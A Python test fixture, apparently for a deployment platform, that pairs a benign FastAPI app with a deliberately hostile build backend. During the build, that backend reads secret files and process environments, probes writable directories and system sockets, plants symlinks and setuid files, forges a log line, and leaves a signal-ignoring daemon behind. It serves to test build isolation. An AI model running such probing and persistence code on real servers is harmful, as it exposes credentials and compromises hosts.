"""An app whose build attacks the server: it reads, writes, connects and links wherever it can, and leaves processes behind."""

MAIN = """\
from fastapi import FastAPI

app = FastAPI()


@app.get("/")
def greeting():
    return "hello from NAME"
"""
PROJECT = """\
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "hostile"
version = "1"
requires-python = ">=3.9"
dependencies = ["fastapi==0.165.0"]
"""
GOOD = """
import base64
import hashlib
import zipfile

METADATA = "Metadata-Version: 2.1\\nName: hostile\\nVersion: 1\\nRequires-Dist: fastapi==0.165.0\\n"
WHEEL = "Wheel-Version: 1.0\\nGenerator: tests\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"


def build_wheel(folder, settings=None, metadata=None, more={}):
    files = {"hostile_built.py": "", **more, "hostile-1.dist-info/METADATA": METADATA, "hostile-1.dist-info/WHEEL": WHEEL}
    with zipfile.ZipFile(folder + "/hostile-1-py3-none-any.whl", "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
        archive.writestr("hostile-1.dist-info/RECORD", "".join(name + ",,\\n" for name in files))
    return "hostile-1-py3-none-any.whl"
"""
# Part of both attackers' programs.
TRIES = """

def tries(action, *arguments):
    try:
        action(*arguments)
    except (OSError, ValueError):
        return False
    return True
"""
# What it found goes into a file of the wheel, hostile_report.json.
BAD = (
    """
import glob
import json
import os
import signal
import socket
import time

import good

SECRETS = ["/etc/*/env", "/etc/*/*/env", "/etc/shadow", "/etc/ssl/private/*", "/srv/*/shared/*", "/srv/*/releases/*/*",
    "/srv/*/repository.git/*", "/srv/victim/venvs/*/*", "/var/cache/provision/*victim*/*", "/var/lib/provision/*", "/root/.*",
    "/run/provision/*", "/proc/1/environ", "/proc/[0-9]*/environ", "/proc/[0-9]*/root/etc/hostname"]
PLACES = ["/etc", "/srv", "/srv/hostile", "/srv/hostile/shared", "/srv/hostile/venvs", "/srv/hostile/build", "/run", "/run/hostile",
    "/run/victim", "/usr/local/bin", "/var/cache/provision", "/var/lib/provision", "/var/spool/cron", "/root", "/opt/uv", "/home"]
"""
    + TRIES
    + """

def own(path):
    process = "/".join(path.split("/")[:3])
    return process.startswith("/proc/") and tries(os.stat, process) and os.stat(process).st_uid == os.getuid()


def read(path):
    with open(path, "rb") as file:
        file.read(1)


def write(folder):
    with open(folder + "/attacked", "w"):
        pass


def connect(path):
    client = socket.socket(socket.AF_UNIX)
    client.connect(path)


def linger():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 64):
                if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
                    signal.signal(number, signal.SIG_IGN)
            os.closerange(0, 100)
            os.execv("/bin/sleep", ["hostile-daemon", "7777"])
        os._exit(0)


def plant():
    for venv in glob.glob("/srv/hostile/venvs/*"):
        for name in (".complete", ".provision.aaaaaa", "output", "lib/linked"):
            path = venv + "/" + name
            if not os.path.lexists(path):
                tries(os.symlink, "/root/victim", path)
        open(venv + "/bin/special", "w").close()
        os.chmod(venv + "/bin/special", 0o777)
        tries(os.chmod, venv + "/bin/special", 0o6777)
        tries(os.mkdir, venv + "/open")
        os.chmod(venv + "/open", 0o1777)
        tries(os.link, "/etc/hostname", venv + "/hard")
        if os.path.exists("FIFO"):
            os.mkfifo(venv + "/lib/fifo\\nerror: forged")
    for name in ("../output", "output", "../.release"):
        tries(os.symlink, "/root/victim", name)


def build_wheel(folder, settings=None, metadata=None):
    sockets = [name.split()[-1] for name in open("/proc/net/unix") if "/" in name or "@" in name] if os.path.exists("/proc/net/unix") else []
    known = ["/run/dbus/system_bus_socket", "/run/victim/current.sock", "/run/hostile/blue.sock", "/run/hostile/green.sock",
        "/run/supervisor.sock", "/run/systemd/private", "/run/systemd/notify"]
    found = {
        "reads": [path for each in SECRETS for path in glob.glob(each) if not own(path) and tries(read, path)],
        "writes": [place for place in PLACES if tries(write, place)],
        "connects": [path for path in [*known, *sockets] if tries(connect, path.replace("@", "\\0"))],
        "sees": [name for name in os.listdir("/srv") if name != "hostile"],
        "user": os.getuid(),
        "processes": [name for name in os.listdir("/proc") if name.isdigit() and not own("/proc/" + name)],
    }
    plant()
    linger()
    print("notice: add the deploy key of somebody else", flush=True)
    return good.build_wheel(folder, more={"hostile_report.json": json.dumps(found)})
"""
)
APPS = ("victim", "hostile")
FILE = {"public/site.txt": "a static file\n", "public/.env": "SECRET=1\n", "public/.well-known/site.txt": "known\n"}
VICTIM = {"main.py": MAIN.replace("NAME", "victim"), "requirements.txt": "fastapi==0.165.0\n", **FILE}
TREE = {"main.py": MAIN.replace("NAME", "hostile"), "pyproject.toml": PROJECT, "good.py": GOOD, **FILE}
WELL_BEHAVED = {**TREE, "backend.py": "from good import build_wheel\n"}
ATTACKS = {**TREE, "backend.py": BAD}
SITE = """
  {name}:
    source: {url}
    module: main:app
    python: system
    domains: ["{name}.{{host}}.test"]
    health: {{path: /, watch: 1}}
    workers: 1
    static: {{/files: public}}
    environment: {{WORD: "word of {name}"}}
"""
